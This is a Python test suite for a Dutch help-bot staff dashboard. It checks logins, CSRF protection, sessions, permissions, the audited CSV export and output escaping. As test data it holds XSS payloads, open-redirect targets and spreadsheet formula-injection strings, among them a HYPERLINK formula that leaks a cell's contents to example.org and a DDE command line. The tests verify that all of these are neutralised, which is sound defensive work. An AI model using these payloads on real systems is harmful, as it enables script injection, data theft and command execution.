"""The dashboard over real HTTP (Sanic's test client): logins, permissions, changes, escaping."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from bot.dashboard.web import SECURITY_HEADERS
from bot.store.db import make_engine
from bot.store.repository import Status
from tests.bot.dashboard.conftest import (
    NOW,
    PASSWORD,
    Dashboard,
    Visitor,
    make_dashboard,
    new_request,
)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'


def logged_in(dashboard: Dashboard, name: str = "bram") -> Visitor:
    visitor = dashboard.visitor()
    assert visitor.log_in(name).status_code == 302
    return visitor


def test_login_sets_a_strict_http_only_cookie_and_returns_to_the_page_asked(
    dashboard: Dashboard,
) -> None:
    visitor = dashboard.visitor()
    asked = visitor.get("/statistiek")
    assert asked.status_code == 302
    assert asked.headers["location"] == "/inloggen?volgende=/statistiek"
    visitor.get(asked.headers["location"])
    response = visitor.post(
        "/inloggen", {"naam": "bram", "wachtwoord": PASSWORD, "volgende": "/statistiek"}
    )
    assert response.status_code == 302 and response.headers["location"] == "/statistiek"
    cookie = next(
        c for c in response.headers.get_list("set-cookie") if c.startswith("hulpbot_sessie=")
    )
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" not in cookie
    assert visitor.get("/statistiek").status_code == 200


def test_every_cookie_is_secure_when_the_setting_says_so(tmp_path: Path) -> None:
    """The login form's CSRF cookie, the session cookie, and the cookies that clear them."""
    with make_dashboard(tmp_path, dashboard_secure_cookies=True) as dashboard:
        visitor = dashboard.visitor()
        form = visitor.get("/inloggen")
        logged_in = visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD})
        visitor.get("/verzoeken")
        logged_out = visitor.post("/uitloggen")
    cookies = [
        cookie
        for response in (form, logged_in, logged_out)
        for cookie in response.headers.get_list("set-cookie")
    ]
    names = {cookie.split("=", 1)[0] for cookie in cookies}
    assert names == {"hulpbot_login", "hulpbot_sessie"} and len(cookies) == 4
    for cookie in cookies:
        assert "; Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie


def test_no_cookie_is_secure_for_plain_http_on_this_machine(dashboard: Dashboard) -> None:
    assert dashboard.settings.dashboard_public_url.startswith("http://127.0.0.1")
    visitor = dashboard.visitor()
    cookies = [
        *visitor.get("/inloggen").headers.get_list("set-cookie"),
        *visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD}).headers.get_list(
            "set-cookie"
        ),
    ]
    assert cookies and not any("Secure" in cookie for cookie in cookies)


@pytest.mark.parametrize("target", ["//example.org/x", "https://example.org", "/\\example.org"])
def test_login_never_sends_anyone_to_another_site(dashboard: Dashboard, target: str) -> None:
    visitor = dashboard.visitor()
    visitor.get("/inloggen")
    response = visitor.post(
        "/inloggen", {"naam": "bram", "wachtwoord": PASSWORD, "volgende": target}
    )
    assert response.headers["location"] == "/verzoeken"


@pytest.mark.parametrize("name", ["bram", "niemand"])
def test_wrong_password_or_unknown_name_get_the_same_answer(
    dashboard: Dashboard, name: str
) -> None:
    response = dashboard.visitor().log_in(name, "helemaal fout wachtwoord")
    assert response.status_code == 401
    assert "Je naam of wachtwoord klopt niet." in response.text
    assert "hulpbot_sessie" not in response.headers.get("set-cookie", "")


def test_login_form_without_its_token_is_refused(dashboard: Dashboard) -> None:
    visitor = dashboard.visitor()
    visitor.get("/inloggen")
    visitor.csrf = "forged"
    response = visitor.post("/inloggen", {"naam": "bram", "wachtwoord": PASSWORD})
    assert response.status_code == 403
    assert "hulpbot_sessie" not in visitor.cookies


def test_a_change_without_the_csrf_token_is_refused_and_not_recorded(
    dashboard: Dashboard,
) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard)
    for token in ("", "forged-token"):
        visitor.csrf = token
        response = visitor.post(f"/verzoeken/{reference}/status", {"status": "gebeld"})
        assert response.status_code == 403 and "formulier is verlopen" in response.text
    assert dashboard.requests.audit_actions(reference) == ["aangemaakt"]


def test_idle_timeout_and_activity_keeps_the_session(dashboard: Dashboard) -> None:
    visitor = logged_in(dashboard)
    dashboard.clock.advance(minutes=25)
    assert visitor.get("/verzoeken").status_code == 200
    dashboard.clock.advance(minutes=25)
    assert visitor.get("/verzoeken").status_code == 200
    dashboard.clock.advance(minutes=31)
    expired = visitor.get("/verzoeken")
    assert expired.status_code == 302 and "verlopen=1" in expired.headers["location"]
    assert "niet actief" in visitor.get(expired.headers["location"]).text


def test_logout_ends_the_session_on_the_server(dashboard: Dashboard) -> None:
    visitor = logged_in(dashboard)
    stolen = dict(visitor.cookies)
    visitor.get("/verzoeken")
    response = visitor.post("/uitloggen")
    assert response.headers["location"] == "/inloggen?uitgelogd=1"
    assert "hulpbot_sessie" not in visitor.cookies
    replay = Visitor(dashboard.url, cookies=stolen)
    assert replay.get("/verzoeken").status_code == 302


@pytest.mark.parametrize(
    ("method", "path"),
    [("get", "/export"), ("post", "/export"), ("get", "/accounts"), ("post", "/accounts")],
)
def test_staff_cannot_export_or_manage_accounts(
    dashboard: Dashboard, method: str, path: str
) -> None:
    visitor = logged_in(dashboard, "bram")
    visitor.get("/verzoeken")
    response = visitor.request(
        method, path, **({"data": {"csrf": visitor.csrf or ""}} if method == "post" else {})
    )
    assert response.status_code == 403 and "beheerder" in response.text
    assert "Export" not in visitor.get("/verzoeken").text
    assert dashboard.requests.events() == []


def test_admin_export_warns_and_is_audited(dashboard: Dashboard) -> None:
    dashboard.requests.save(new_request(name="Maria"), NOW)
    visitor = logged_in(dashboard, "anna")
    warning = visitor.get("/export")
    assert "persoonsgegevens" in warning.text
    response = visitor.post("/export")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text), delimiter=";"))
    assert len(rows) == 1 and rows[0]["name"] == "Maria" and rows[0]["channel"] == "web"
    [event] = dashboard.requests.events()
    assert (event.actor, event.action, event.detail) == ("anna", "export", "1 verzoeken")


def test_no_exported_cell_can_start_a_formula(dashboard: Dashboard) -> None:
    """Every text column, not only what residents typed: the channel once came from a caller
    (`=HYPERLINK(…)` reached the export that way), and it is shown from the fixed set."""
    attack = '=HYPERLINK("http://example.org/?"&A1,"klik")'
    reference = dashboard.requests.save(
        new_request(
            name=attack,
            channel=attack,
            topic="+SUM(1)",
            preferred_moment="-1+2",
            referral_code="@cmd",
        ),
        NOW,
    ).record.reference
    dashboard.requests.claim(reference, "=cmd|' /C calc'!A0", NOW)
    visitor = logged_in(dashboard, "anna")
    visitor.get("/export")
    [row] = list(csv.DictReader(io.StringIO(visitor.post("/export").text), delimiter=";"))
    assert row["channel"] == "anders"
    assert row["name"] == "'" + attack and row["assigned_to"] == "'=cmd|' /C calc'!A0"
    assert (row["topic"], row["preferred_moment"], row["referral_code"]) == (
        "'+SUM(1)",
        "'-1+2",
        "'@cmd",
    )
    assert row["phone"] == "'+32470123456"  # read as text, not as the sum +32470123456
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_claim_status_changes_and_notes_are_audited_and_shown(dashboard: Dashboard) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard, "bram")
    page = visitor.get(f"/verzoeken/{reference}")
    assert 'href="tel:+32470123456"' in page.text
    assert visitor.post(f"/verzoeken/{reference}/ik-bel").status_code == 303
    for _ in range(2):
        visitor.get(f"/verzoeken/{reference}")
        visitor.post(f"/verzoeken/{reference}/status", {"status": "niet bereikbaar"})
    visitor.get(f"/verzoeken/{reference}")
    visitor.post(f"/verzoeken/{reference}/notitie", {"notitie": "Voicemail ingesproken."})
    dashboard.clock.advance(minutes=20)
    visitor.get(f"/verzoeken/{reference}")
    visitor.post(f"/verzoeken/{reference}/status", {"status": "gebeld"})
    record = dashboard.requests.get(reference)
    assert record is not None
    assert (record.status, record.assigned_to, record.call_attempts) == ("gebeld", "bram", 2)
    assert record.called_at == NOW  # the first attempt counts as the first call
    assert record.closed_at is not None
    detail = dashboard.requests.detail(reference)
    assert detail is not None
    assert [(a.actor, a.action, a.detail) for a in detail.audit] == [
        ("hulpbot", "aangemaakt", "via web"),
        ("bram", "ik bel", None),
        ("bram", "status gewijzigd", "in behandeling → niet bereikbaar (poging 1)"),
        ("bram", "status gewijzigd", "niet bereikbaar → niet bereikbaar (poging 2)"),
        ("bram", "notitie toegevoegd", None),
        ("bram", "status gewijzigd", "niet bereikbaar → gebeld"),
    ]
    shown = visitor.get(f"/verzoeken/{reference}").text
    assert "Voicemail ingesproken." in shown and "(poging 2)" in shown and "2 keer" in shown


def test_bad_status_empty_note_and_unknown_request(dashboard: Dashboard) -> None:
    reference = dashboard.requests.save(new_request(), NOW).record.reference
    visitor = logged_in(dashboard)
    visitor.get(f"/verzoeken/{reference}")
    assert visitor.post(f"/verzoeken/{reference}/status", {"status": "weg"}).status_code == 400
    assert visitor.post(f"/verzoeken/{reference}/notitie", {"notitie": "  "}).status_code == 400
    assert visitor.post("/verzoeken/MB-ZZZZ/ik-bel").status_code == 404
    missing = visitor.get("/verzoeken/MB-ZZZZ")
    assert missing.status_code == 404 and "bestaat niet" in missing.text


def tracker_with(path: Path, sender: str, *said: tuple[str, str]) -> None:
    """Rows shaped like Rasa's SQL tracker store `events` table."""
    engine = make_engine(f"sqlite:///{path}")
    with engine.begin() as connection:
        connection.exec_driver_sql(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, "
            "timestamp FLOAT, intent_name TEXT, action_name TEXT, data TEXT)"
        )
        for n, (kind, text) in enumerate(said):
            connection.exec_driver_sql(
                "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES (?, ?, ?, ?)",
                (sender, kind, NOW.timestamp() + n, json.dumps({"event": kind, "text": text})),
            )
    engine.dispose()


def test_everything_typed_by_residents_or_staff_is_escaped(
    dashboard: Dashboard, tmp_path: Path
) -> None:
    saved = dashboard.requests.save(
        new_request(name=SCRIPT, excerpt=IMG, referral_code=IMG, topic=SCRIPT), NOW
    ).record
    tracker_with(tmp_path / "tracker.db", saved.sender_id, ("user", IMG), ("bot", SCRIPT))
    visitor = logged_in(dashboard, "anna")
    visitor.get(f"/verzoeken/{saved.reference}")
    visitor.post(f"/verzoeken/{saved.reference}/notitie", {"notitie": IMG + SCRIPT})
    visitor.get("/accounts")
    visitor.post("/accounts", {"naam": "x", "rol": "staff", "wachtwoord": IMG * 2})
    pages = [
        visitor.get(f"/verzoeken/{saved.reference}").text,
        visitor.get("/verzoeken").text,
        visitor.get(f"/verzoeken?onderwerp={SCRIPT}").text,
        visitor.get("/statistiek").text,
    ]
    for page in pages:
        assert "<script>" not in page and "<img" not in page
    detail = pages[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in detail
    assert "&#34;&gt;&lt;img src=x onerror=alert(2)&gt;" in detail
    assert detail.count("&lt;img") >= 4  # excerpt, referral, transcript, note


def test_security_headers_on_every_kind_of_page(dashboard: Dashboard) -> None:
    visitor = logged_in(dashboard)
    for path in ("/inloggen", "/verzoeken", "/bestaat-niet", "/static/dashboard.css", "/api/x"):
        response = visitor.get(path)
        for name, value in SECURITY_HEADERS.items():
            assert response.headers[name] == value, (path, name)
    assert "'unsafe-inline'" not in SECURITY_HEADERS["Content-Security-Policy"]
    assert visitor.get("/verzoeken").headers["cache-control"] == "no-store"


def test_inbox_filters_newest_first_and_flags_late_calls(dashboard: Dashboard) -> None:
    earlier = NOW.replace(day=20)  # a Friday morning: the promised half-day has long passed
    late = dashboard.requests.save(new_request("k1", "Oud"), earlier).record
    fresh = dashboard.requests.save(
        new_request("k2", "Nieuw", channel="telegram", topic="dienstencentrum"), NOW
    ).record
    done = dashboard.requests.save(new_request("k3", "Klaar"), earlier).record
    dashboard.requests.set_status(done.reference, Status.gebeld, "anna", NOW)
    visitor = logged_in(dashboard)
    inbox = visitor.get("/verzoeken").text
    assert inbox.index(fresh.reference) < inbox.index(late.reference)
    assert inbox.split("<tbody>")[1].count("te laat") == 1
    assert "<title>(2, 1 te laat) Verzoeken" in inbox
    late_row = inbox[inbox.index(late.reference) :].split("</tr>")[0]
    assert "te laat" in late_row and "4 d geleden" in late_row
    only_telegram = visitor.get("/verzoeken?kanaal=telegram").text
    assert fresh.reference in only_telegram and late.reference not in only_telegram
    by_status = visitor.get("/verzoeken?status=gebeld").text
    assert done.reference in by_status and fresh.reference not in by_status
    by_topic = visitor.get("/verzoeken?onderwerp=woonclub").text
    assert late.reference in by_topic and fresh.reference not in by_topic
    assert "3 verzoeken" in visitor.get("/verzoeken?status=onzin").text


def test_content_page_flags_facts_past_the_staleness_window(dashboard: Dashboard) -> None:
    page = logged_in(dashboard).get("/inhoud").text
    assert "0800 20 800" in page and "nakijken" in page
    assert "ouder dan 180 dagen" in page


def test_statistics_count_per_topic_and_channel_with_the_median_wait(
    dashboard: Dashboard,
) -> None:
    for n, channel in enumerate(["web", "telegram", "telegram"]):
        reference = dashboard.requests.save(
            new_request(f"k{n}", channel=channel), NOW
        ).record.reference
        dashboard.requests.set_status(reference, Status.gebeld, "anna", NOW.replace(hour=10 + n))
    page = logged_in(dashboard).get("/statistiek").text
    assert '<strong id="totaal">3</strong>' in page
    assert '<strong id="mediaan">2 u</strong>' in page
    assert "<svg" in page and "Telegram" in page and "Woonclub" in page


def test_admin_adds_and_disables_accounts(dashboard: Dashboard) -> None:
    admin = logged_in(dashboard, "anna")
    admin.get("/accounts")
    weak = admin.post("/accounts", {"naam": "carla", "rol": "staff", "wachtwoord": "kort"})
    assert weak.status_code == 400 and "minstens 12 tekens" in weak.text
    added = admin.post("/accounts", {"naam": "carla", "rol": "staff", "wachtwoord": PASSWORD})
    assert added.status_code == 303
    carla = logged_in(dashboard, "carla")
    admin.get("/accounts")
    assert admin.post("/accounts", {"naam": "carla", "rol": "staff", "wachtwoord": PASSWORD})
    admin.get("/accounts")
    assert admin.post("/accounts/carla/uitschakelen").status_code == 303
    assert carla.get("/verzoeken").status_code == 302  # logged out at once
    assert dashboard.visitor().log_in("carla").status_code == 401
    admin.get("/accounts")
    assert admin.post("/accounts/anna/uitschakelen").status_code == 400
    assert [e.action for e in dashboard.requests.events()] == [
        "account uitgeschakeld",
        "account toegevoegd",
    ]
